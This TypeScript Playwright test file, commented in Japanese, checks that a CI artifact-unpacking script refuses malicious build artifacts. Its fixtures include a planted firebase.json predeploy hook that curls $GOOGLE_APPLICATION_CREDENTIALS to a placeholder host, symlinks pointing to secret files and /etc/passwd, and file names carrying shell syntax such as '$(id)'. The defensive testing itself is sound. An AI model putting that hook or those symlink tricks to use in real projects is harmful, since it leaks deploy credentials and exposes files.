/**
 * issue 60 の 1: 鍵を持つジョブが成果物を取り出しの上に置く前の検査（scripts/unpack-artifact.mts）に、悪意のある
 * 成果物を渡す。ワークフローと同じく、npm を使わずに Node.js だけでスクリプトを動かす（ブラウザーを使わない。
 * Node.js を 25 回起動し、ワーカーの時間の合計で約 6 秒）。
 */
import {execFileSync} from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {expect, test} from '@playwright/test';
import {runCommand, type Run} from '../support/run-command';

const script = path.resolve('scripts/unpack-artifact.mts');

type Tree = {artifact: string; checkout: string; outside: string};

/** build ジョブが上げるのと同じ形の成果物（2 つのサイト）と、空の取り出し、外のフォルダー。 */
function tree(): Tree {
  const root = mkdtempSync(path.join(tmpdir(), 'denki-artifact-'));
  const artifact = path.join(root, 'artifact');
  mkdirSync(path.join(artifact, 'build', 'blog', '2026'), {recursive: true});
  mkdirSync(path.join(artifact, 'build', 'empty'), {recursive: true});
  mkdirSync(path.join(artifact, 'build-editor', 'admin'), {recursive: true});
  writeFileSync(path.join(artifact, 'build', 'index.html'), '<!doctype html><title>電鬼</title>');
  writeFileSync(path.join(artifact, 'build', 'blog', '2026', '記事 (1).html'), 'post');
  writeFileSync(path.join(artifact, 'build', '.nojekyll'), '');
  writeFileSync(path.join(artifact, 'build-editor', 'admin', 'index.html'), 'editor');
  const checkout = path.join(root, 'checkout');
  mkdirSync(checkout);
  writeFileSync(path.join(checkout, 'firebase.json'), '{"main": true}');
  const outside = path.join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'secret.txt'), 'outside');
  return {artifact, checkout, outside};
}

/** ワークフローと同じ呼び方: 取り出しのフォルダーで node scripts/unpack-artifact.mts <成果物> <フォルダー>... */
function unpack(t: Tree, ...folders: string[]): Promise<Run> {
  return runCommand(process.execPath, [script, t.artifact, ...folders], {cwd: t.checkout});
}

/** 断られ、理由が日本語で出て、取り出しは前のまま（firebase.json だけ）。 */
async function expectRefused(t: Tree, reason: string, ...folders: string[]): Promise<void> {
  const run = await unpack(t, ...(folders.length > 0 ? folders : ['build']));
  expect(run.code, run.output).toBe(1);
  expect(run.output).toContain('成果物を使えません（何も写していません）');
  expect(run.output).toContain(reason);
  expect(readdirSync(t.checkout)).toEqual(['firebase.json']);
  expect(readFileSync(path.join(t.checkout, 'firebase.json'), 'utf8')).toBe('{"main": true}');
}

test('a clean artifact: only the folders asked for are copied, with every file and empty folder, and nothing else', async () => {
  const t = tree();
  const run = await unpack(t, 'build');
  expect(run, run.output).toMatchObject({code: 0});
  expect(readdirSync(t.checkout).sort()).toEqual(['build', 'firebase.json']);
  expect(
    readFileSync(path.join(t.checkout, 'build', 'blog', '2026', '記事 (1).html'), 'utf8'),
  ).toBe('post');
  expect(existsSync(path.join(t.checkout, 'build', '.nojekyll'))).toBe(true);
  expect(existsSync(path.join(t.checkout, 'build', 'empty'))).toBe(true);
  // 本番のジョブは 2 つのサイトを写す。
  const both = tree();
  const runBoth = await unpack(both, 'build', 'build-editor');
  expect(runBoth, runBoth.output).toMatchObject({code: 0});
  expect(readdirSync(both.checkout).sort()).toEqual(['build', 'build-editor', 'firebase.json']);
});

test('firebase.json, .firebaserc, another file or folder at the root of the artifact are refused', async () => {
  for (const [name, folder] of [
    ['firebase.json', false],
    ['.firebaserc', false],
    ['package.json', false],
    ['functions', true],
    ['.github', true],
  ] as const) {
    const t = tree();
    const at = path.join(t.artifact, name);
    if (folder) mkdirSync(at);
    else
      writeFileSync(
        at,
        '{"hosting": {"predeploy": ["curl -d @$GOOGLE_APPLICATION_CREDENTIALS x"]}}',
      );
    await expectRefused(t, `"${name}": 成果物の根にあってはいけない`);
  }
});

test('symlinks are refused: inside build/, as build/ itself, and pointing out of the artifact', async () => {
  const inside = tree();
  symlinkSync(
    path.join(inside.outside, 'secret.txt'),
    path.join(inside.artifact, 'build', 'x.txt'),
  );
  await expectRefused(inside, `${path.join('build', 'x.txt')}: シンボリックリンク`);

  const folderLink = tree();
  symlinkSync(folderLink.outside, path.join(folderLink.artifact, 'build', 'blog', 'out'));
  await expectRefused(folderLink, `${path.join('build', 'blog', 'out')}: シンボリックリンク`);

  // build/ そのものがリンク（取り出しの firebase.json を含むフォルダーを指す）。
  const asBuild = tree();
  execFileSync('rm', ['-r', path.join(asBuild.artifact, 'build')]);
  symlinkSync(asBuild.checkout, path.join(asBuild.artifact, 'build'));
  await expectRefused(asBuild, 'build: フォルダーではない（シンボリックリンク）');

  // 写すほうではないフォルダーの中のリンクも断る（成果物のどこにもあってはいけない）。
  const other = tree();
  symlinkSync('/etc/passwd', path.join(other.artifact, 'build-editor', 'admin', 'p'));
  await expectRefused(other, 'シンボリックリンク');
});

test('a FIFO and a name with a control character are refused; odd but printable names pass', async () => {
  const fifo = tree();
  execFileSync('mkfifo', [path.join(fifo.artifact, 'build', 'pipe')]);
  await expectRefused(fifo, `${path.join('build', 'pipe')}: FIFO`);

  const control = tree();
  writeFileSync(path.join(control.artifact, 'build', 'a\nb.html'), 'x');
  await expectRefused(control, '名前に制御文字がある');

  const odd = tree();
  for (const name of ['..a', '-rf', '$(id)', '*', 'a b', '\\x', '"q"', '\u202etxt.exe'])
    writeFileSync(path.join(odd.artifact, 'build', name), name);
  const run = await unpack(odd, 'build');
  expect(run, run.output).toMatchObject({code: 0});
  expect(readFileSync(path.join(odd.checkout, 'build', '$(id)'), 'utf8')).toBe('$(id)');
});

test('folders outside the artifact, missing folders, and a target that already exists are refused', async () => {
  const t = tree();
  await expectRefused(t, '../outside: 写せるのは build、build-editor だけ', '../outside');
  await expectRefused(t, 'firebase.json: 写せるのは build、build-editor だけ', 'firebase.json');
  const missing = tree();
  execFileSync('rm', ['-r', path.join(missing.artifact, 'build-editor')]);
  await expectRefused(missing, 'build-editor: 成果物に無い', 'build', 'build-editor');
  const exists = tree();
  mkdirSync(path.join(exists.checkout, 'build'));
  const run = await unpack(exists, 'build');
  expect(run.code).toBe(1);
  expect(run.output).toContain('build: 写す先に既にある');
  expect(readdirSync(path.join(exists.checkout, 'build'))).toEqual([]);
  const none = tree();
  none.artifact = path.join(none.outside, 'no-such-folder');
  await expectRefused(none, '成果物のフォルダーが無い');
});
